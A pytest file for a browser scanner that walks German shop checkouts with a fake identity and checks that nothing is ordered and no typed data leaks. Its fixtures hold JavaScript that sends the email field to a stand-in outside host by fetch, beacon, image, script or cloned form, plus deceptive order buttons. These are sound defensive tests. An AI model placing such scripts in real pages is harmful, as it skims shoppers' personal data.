# ruff: noqa: E501 - a page, and what it does, is read on one line
"""Through checkouts to the order button, in a real browser; and what leaves it on the way, whatever the pages try."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Mapping
from dataclasses import dataclass, field

import pytest

from scanner.collect.forms import meaning_of_form
from scanner.model.vocabulary import GapCause, KeyFact, Phase
from scanner.model.vocabulary import PersonalData as P
from scanner.network import ConnectTo, Network
from scanner.probes.browser.crawl.links import read_contents
from scanner.probes.browser.guard import NotAuthorised, Person, Submission
from scanner.probes.browser.session import Browser
from scanner.probes.browser.shopping.hand import Hand
from scanner.probes.browser.shopping.identity import Identity
from scanner.probes.browser.shopping.onward import Ended, Onward, Step, Traveller
from scanner.probes.browser.tab import Tab

from ..conftest import Answer, Serve, Site
from ..scenes import FAST, run
from .shop import page

EMAIL = "siegel-test@muesli.example"
WHO = Identity({
    P.EMAIL: EMAIL, P.GIVEN_NAME: "Testa", P.FAMILY_NAME: "Siegelmann", P.STREET_ADDRESS: "Musterweg 17",
    P.POSTAL_CODE: "12345", P.CITY: "Musterstadt", P.COUNTRY: "DE",
})  # fmt: skip

LAST = page(
    "<h1>Bestellung prüfen</h1><table><tr><td>Beerenmüsli</td><td>1</td><td>6,90 €</td></tr></table>"
    "<p>Versand 3,90 €</p><p>Gesamtsumme 10,80 € inkl. MwSt.</p>"
    "<form method=post action=/bestellen><button>Zahlungspflichtig bestellen</button></form>"
)


def step(fields: str, *, action: str = "/weiter", button: str = "<button>Weiter</button>", script: str = "") -> str:
    form = f"<form method=post action={action}>{fields}{button}</form>"
    return page(f"<h1>Ihre Daten</h1>{form}<script>{script}</script>")


MAIL = "<label>E-Mail * <input type=email name=email required></label>"


@dataclass
class Went:
    """How far it went."""

    site: Site
    steps: list[Step] = field(default_factory=list)
    ended: Ended | None = None
    done: tuple[str, ...] = ()
    kept: tuple[str, ...] = ()

    async def at(self, one: Step, _: Tab) -> None:
        self.steps.append(one)

    @property
    def ordered(self) -> bool:
        return any(
            path.startswith(("/bestellen", "/order", "/checkout/confirm", "/api/orders")) for path in self.site.paths()
        )

    @property
    def reached(self) -> bool:
        return bool(self.steps) and self.steps[-1].order is not None

    def told(self) -> str:
        """All that the server heard."""
        return "\n".join(
            [*(path for _, path, _ in self.site.heard), *(one.decode("latin-1") for one in self.site.bodies)]
        )


async def go(
    serve: Serve, shops: Mapping[str, Mapping[str, Answer]], *, who: Identity = WHO
) -> dict[str, tuple[Went, Site]]:
    """Each from /kasse on, as a visitor of its own. OTHER in a page is another party, which hears what reaches it."""
    turn = asyncio.Semaphore(4)

    async def one(browser: Browser, site: Site) -> Went:
        went = Went(site)
        async with turn, browser.phase(Phase.BEFORE_CHOICE) as phase, phase.tab() as tab:
            visit = await tab.visit(site.url("/kasse"))
            hand = Hand(tab)
            onward = Onward(hand, Traveller(who, meaning_of_form, site.url(), "Beerenmüsli"), went.at)
            try:
                await onward.go(visit, await read_contents(tab))
            except Ended as ended:
                went.ended = ended
            went.done, went.kept = tuple(hand.steps), tab.kept_back
        await asyncio.sleep(0.5)  # what pages send as they go
        return went

    with contextlib.ExitStack() as running:
        others = [running.enter_context(serve({"/": "", "/x": ""})) for _ in shops]
        sites = []
        for shop, other in zip(shops.values(), others, strict=True):
            named = {
                path: text.replace("OTHER", other.url("").rstrip("/")) if isinstance(text, str) else text
                for path, text in shop.items()
            }
            sites.append(running.enter_context(serve({"/weiter": LAST, "/": page(""), **named})))
        rules = [ConnectTo("127.0.0.1", site.port, "127.0.0.1", site.port) for site in (*sites, *others)]
        async with Browser.open(Network("http://shop.example/", rules, FAST), authorised=True) as browser:
            went = await asyncio.gather(*(one(browser, site) for site in sites))
    return dict(zip(shops, zip(went, others, strict=True), strict=True))


ADDRESS = (
    MAIL
    + "<label>Vorname * <input name=vorname required></label><label>Nachname * <input name=nachname required></label>"
    "<label>Straße * <input name=strasse autocomplete=address-line1 required></label>"
    "<label>Hausnummer * <input name=hausnummer required></label><label>PLZ * <input name=plz required></label>"
    "<label>Ort * <input name=ort required></label><label>Telefon <input type=tel name=telefon></label>"
    "<label>Land * <select name=land required><option value=''>Bitte wählen<option value=AT>Österreich<option value=DE>"
    "Deutschland</select></label>"
    "<label>Anrede * <select name=anrede required><option value=''>Bitte wählen<option>Herr<option>Frau<option>Keine Angabe"
    "</select></label>"
    "<label><input type=checkbox name=agb required> Ich habe die AGB gelesen und akzeptiere sie *</label>"
    "<label><input type=checkbox name=news> Ja, ich möchte den Newsletter erhalten</label>"
    "<label><input type=checkbox name=werbung checked> Ich möchte Werbung per E-Mail erhalten</label>"
)


def test_a_form_is_filled_in_by_what_it_asks_for_and_the_way_ends_before_the_order(serve: Serve) -> None:
    async def scene() -> None:
        ((went, _),) = (await go(serve, {"one": {"/kasse": step(ADDRESS)}})).values()
        assert went.reached and not went.ordered, (went.ended, went.done, went.kept)
        sent = next(body.decode() for body in went.site.bodies if body)
        assert sent == (
            "email=siegel-test%40muesli.example&vorname=Testa&nachname=Siegelmann&strasse=Musterweg&hausnummer=17"
            "&plz=12345&ort=Musterstadt&telefon=&land=DE&anrede=Keine+Angabe&agb=on&werbung=on"
        )
        assert "tick “Ich habe die AGB gelesen und akzeptiere sie *”" in went.done
        assert EMAIL not in str(went.done)
        order = went.steps[-1].order
        assert order is not None and order.label == "Zahlungspflichtig bestellen"
        assert order.above == (KeyFact.GOODS, KeyFact.TOTAL_PRICE, KeyFact.SHIPPING_COST, KeyFact.VAT)
        assert order.words_between == 0

    run(scene)


SAVED = "fetch('/speichern', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({adresse: {email: document.querySelector('[name=email]').value, land: 'DE'}})})"
#: Checkouts that go on by what their own scripts send to their own host.
SCRIPTED: Mapping[str, Mapping[str, Answer]] = {
    "saves as it is typed": {
        "/kasse": step(MAIL, script=f"document.querySelector('[name=email]').addEventListener('change', () => {SAVED})"),
        "/speichern": "{}",
    },
    "goes on by fetch": {
        "/kasse": step(MAIL, script=f"document.forms[0].addEventListener('submit', e => {{ e.preventDefault(); {SAVED}.then(() => {{ location = '/weiter' }}) }})"),
        "/speichern": "{}",
    },
    "leads on by a redirect to a review that is called confirm": {
        "/kasse": step(MAIL, action="/eingabe"), "/eingabe": (303, [("Location", "/checkout/confirm-page/../confirm")], ""),
        "/checkout/confirm": LAST,
    },
    "asks for a way of paying": {
        "/kasse": step(
            MAIL + "<fieldset><legend>Zahlungsart *</legend><label><input type=radio name=zahlungsart value=k required> Kreditkarte</label>"
            "<label><input type=radio name=zahlungsart value=p> PayPal</label><label><input type=radio name=zahlungsart value=v> Vorkasse</label></fieldset>"
        ),
    },
    "an icon with a name": {"/kasse": step(MAIL, button="<button aria-label='Weiter'><svg width=20 height=20><rect width=20 height=20 /></svg></button>")},
    "a picture": {"/kasse": step(MAIL, button="<input type=image alt='Weiter' src=/weiter.gif width=80 height=30>")},
    "once more": {"/kasse": step(MAIL + "<label>Vorname <input name=vorname></label>", script="document.forms[0].addEventListener('submit', e => { if (!document.querySelector('[name=vorname]').value) e.preventDefault() })")},
}  # fmt: skip


def test_what_the_shops_own_scripts_save_of_a_step_passes_and_the_way_goes_on(serve: Serve) -> None:
    async def scene() -> None:
        went = await go(serve, SCRIPTED)
        stopped = {
            name: (one.ended and one.ended.reason, one.kept, one.done)
            for name, (one, _) in went.items()
            if not one.reached
        }
        assert stopped == {}
        assert any(
            b'"email":"siegel-test@muesli.example"' in body for body in went["saves as it is typed"][0].site.bodies
        )
        assert any(b"zahlungsart=v" in body for body in went["asks for a way of paying"][0].site.bodies)
        assert not any("/bestellen" in one.site.paths() for one, _ in went.values())

    run(scene)


VALUE = "document.querySelector('[name=email]').value"
ON_CHANGE = "document.querySelector('[name=email]').addEventListener('change', () => {{ {0} }})"
ON_GO = "addEventListener('pagehide', () => {{ {0} }})"
#: What pages do with what is typed that nobody announced.
LEAKS = {
    "fetch": f"fetch('OTHER/x', {{method: 'POST', body: {VALUE}}})",
    "fetch in the address": f"fetch('OTHER/x?m=' + encodeURIComponent({VALUE}))",
    "encoded": f"fetch('OTHER/x?m=' + btoa('id:' + {VALUE}))",
    "reversed": f"fetch('OTHER/x', {{method: 'POST', body: [...{VALUE}].reverse().join('')}})",
    "hashed": f"crypto.subtle ? crypto.subtle.digest('SHA-256', new TextEncoder().encode({VALUE})).then(d => fetch('OTHER/x?h=' + [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, '0')).join(''))) : 0",
    "a picture": f"new Image().src = 'OTHER/x?m=' + encodeURIComponent({VALUE})",
    "a script": f"document.head.append(Object.assign(document.createElement('script'), {{src: 'OTHER/x?m=' + {VALUE}}}))",
    "a beacon": f"navigator.sendBeacon('OTHER/x', {VALUE})",
    "a beacon to the shop": f"navigator.sendBeacon('/beacon', {VALUE})",
    "a blob": f"navigator.sendBeacon('OTHER/x', new Blob([{VALUE}], {{type: 'application/json'}}))",
    "a form": "const f = document.forms[0].cloneNode(true); f.action = 'OTHER/x'; document.body.append(f); "
    f"f.querySelector('[name=email]').value = {VALUE}; f.submit()",
    "a form to the shop": "const f = document.forms[0].cloneNode(true); f.hidden = true; f.action = '/early'; document.body.append(f); "
    f"f.querySelector('[name=email]').value = {VALUE}; f.submit()",
    "a form in a frame": "const f = document.forms[0].cloneNode(true); f.action = '/framed'; f.target = 'inner'; const i = document.createElement('iframe');"
    f" i.name = 'inner'; document.body.append(i, f); f.querySelector('[name=email]').value = {VALUE}; f.submit()",
    "a short value": "fetch('OTHER/x', {method: 'POST', body: new URLSearchParams({zip: '12345'})})",
}  # fmt: skip
HEARD_FROM = ("/beacon", "/early", "/framed")


def test_what_is_typed_leaves_neither_by_script_nor_beacon_nor_picture_nor_form(serve: Serve) -> None:
    async def scene() -> None:
        shops = {name: {"/kasse": step(MAIL, script=ON_CHANGE.format(what))} for name, what in LEAKS.items()}
        went = await go(serve, shops)
        assert {name: other.heard for name, (_, other) in went.items() if other.heard} == {}
        assert {
            name: one.site.paths() for name, (one, _) in went.items() if set(one.site.paths()) & set(HEARD_FROM)
        } == {}
        assert not any(one.ordered for one, _ in went.values())

    run(scene)


def test_nothing_of_it_leaves_as_the_page_goes(serve: Serve) -> None:
    async def scene() -> None:
        ways = {
            "fetch": f"fetch('/gone', {{method: 'POST', keepalive: true, body: JSON.stringify({{email: {VALUE}}})}})",
            "beacon": f"navigator.sendBeacon('/gone', JSON.stringify({{email: {VALUE}}}))",
            "elsewhere": f"fetch('OTHER/x', {{method: 'POST', keepalive: true, body: {VALUE}}})",
        }
        went = await go(serve, {name: {"/kasse": step(MAIL, script=ON_GO.format(what))} for name, what in ways.items()})
        assert {name: one.site.paths() for name, (one, _) in went.items() if "/gone" in one.site.paths()} == {}
        assert {name: other.heard for name, (_, other) in went.items() if other.heard} == {}
        assert all(one.reached for one, _ in went.values())

    run(scene)


def button(script: str, *, label: str = "Weiter", more: str = "") -> str:
    return f'<button type=button onpointerdown="{script}" {more}>{label}</button>'


#: Steps whose control does something else than it says.
FALSE: Mapping[str, Mapping[str, Answer]] = {
    "the form orders": {"/kasse": step(MAIL, action="/bestellen")},
    "the form orders by its button": {"/kasse": step(MAIL, button="<button formaction=/order/confirm>Weiter</button>")},
    "becomes an order under the mouse": {"/kasse": step(MAIL, action="/eingabe", button="<button onmouseover=\"this.textContent = 'Jetzt kaufen'\">Weiter</button>"), "/eingabe": LAST},
    "becomes an order once filled in": {"/kasse": step(MAIL, action="/eingabe", script="document.forms[0].addEventListener('change', () => { document.querySelector('button').textContent = 'Zahlungspflichtig bestellen' })"), "/eingabe": LAST},
    "is sent somewhere else by a script": {"/kasse": step(MAIL, action="/eingabe", script="document.forms[0].addEventListener('submit', () => { document.forms[0].action = '/bestellen' })"), "/eingabe": LAST},
    "is sent to another party": {"/kasse": step(MAIL, action="/eingabe", script="document.forms[0].addEventListener('submit', () => { document.forms[0].action = 'OTHER/x' })"), "/eingabe": LAST},
    "orders by fetch": {"/kasse": step(MAIL, button="<button type=button onclick=\"fetch('/api/orders', {method: 'POST', body: '{}'})\">Weiter</button>")},
    "goes to the order by a script": {"/kasse": step(MAIL, button="<button type=button onclick=\"location = '/checkout/confirm'\">Weiter</button>")},
    "calls an order": {"/kasse": step(MAIL, button="<button type=button onclick='placeOrder()'>Weiter</button>", script="function placeOrder() { fetch('/bestellen', {method: 'POST'}) }")},
    "a picture of an order": {"/kasse": step(MAIL, action="/eingabe", button="<input type=image alt='Jetzt kaufen' value=Weiter src=/x.gif width=90 height=30>"), "/eingabe": LAST},
    "drawn by a style sheet": {"/kasse": step(MAIL, action="/eingabe", button="<style>.b::after{content:'jetzt kaufen'}</style><button class=b>Weiter</button>"), "/eingabe": LAST},
    "the last page in other words": {"/kasse": page("<h1>Bestellübersicht</h1><p>Gesamtsumme 10,80 €</p><form method=post action=/eingabe><button>Weiter</button></form>"), "/eingabe": LAST},
    "the last page with its terms": {"/kasse": page("<h1>Bestellung prüfen</h1><form method=post action=/eingabe><label><input type=checkbox name=agb required> Ich akzeptiere die AGB</label><button>Weiter</button></form>"), "/eingabe": LAST},
    "somebody else's address in it": {"/kasse": step(MAIL + "<input type=hidden name=cc value=boss@firm.example>", action="/eingabe", script="document.forms[0].addEventListener('submit', () => { document.forms[0].insertAdjacentHTML('beforeend', '<input name=bcc value=x@y.example>') })"), "/eingabe": LAST},
}  # fmt: skip


def test_no_step_is_an_order_whatever_its_control_says_or_becomes(serve: Serve) -> None:
    async def scene() -> None:
        went = await go(serve, FALSE)
        assert {name: one.site.paths() for name, (one, _) in went.items() if one.ordered} == {}
        assert {name: one.site.paths() for name, (one, _) in went.items() if "/eingabe" in one.site.paths()} == {}
        assert {name: other.heard for name, (_, other) in went.items() if other.heard} == {}
        last = [went[name][0] for name in ("the last page in other words", "the last page with its terms")]
        assert [one.reached and one.steps[-1].label for one in last] == ["Weiter", "Weiter"]

    run(scene)


@pytest.mark.parametrize(
    ("fields", "cause", "said"),
    [
        ("<label>Telefon * <input type=tel name=telefon required></label>", GapCause.NEEDS_TEST_IDENTITY, "“Telefon *”"),
        ("<label>Geburtsdatum <input type=date name=bday required></label>", GapCause.NEEDS_TEST_IDENTITY, "bday"),
        ("<label>Passwort <input type=password name=pw autocomplete=new-password required></label>", GapCause.UNSUPPORTED, "never given"),
        ("<label>Kartennummer <input name=cc autocomplete=cc-number required></label>", GapCause.UNSUPPORTED, "payment data"),
        ("<label><input type=checkbox name=n required> Ich möchte den Newsletter erhalten</label>", GapCause.NOT_OPERABLE, "ticked"),
    ],
)  # fmt: skip
def test_what_the_identity_has_not_or_nobody_gives_ends_the_way_and_names_the_field(
    serve: Serve, fields: str, cause: GapCause, said: str
) -> None:
    async def scene() -> None:
        ((went, _),) = (await go(serve, {"one": {"/kasse": step(MAIL + fields)}})).values()
        assert went.ended is not None and went.ended.cause is cause and said in went.ended.reason
        assert went.site.paths().count("/weiter") == 0

    run(scene)


def test_a_step_is_announced_only_by_whom_the_owner_allowed_and_with_somebody_to_go_as(serve: Serve) -> None:
    async def scene() -> None:
        with serve({"/": page("")}) as site:
            rules = [ConnectTo("127.0.0.1", site.port, "127.0.0.1", site.port)]
            for authorised in (False, True):
                async with (
                    Browser.open(Network("http://shop.example/", rules, FAST), authorised=authorised) as browser,
                    browser.phase(Phase.BEFORE_CHOICE) as phase,
                    phase.tab() as tab,
                ):
                    await tab.visit(site.url())
                    if not authorised:
                        await tab.goes_as(Person(frozenset({EMAIL})))
                    with pytest.raises(NotAuthorised):
                        async with tab.permit(Submission.CHECKOUT):
                            raise AssertionError

    run(scene)
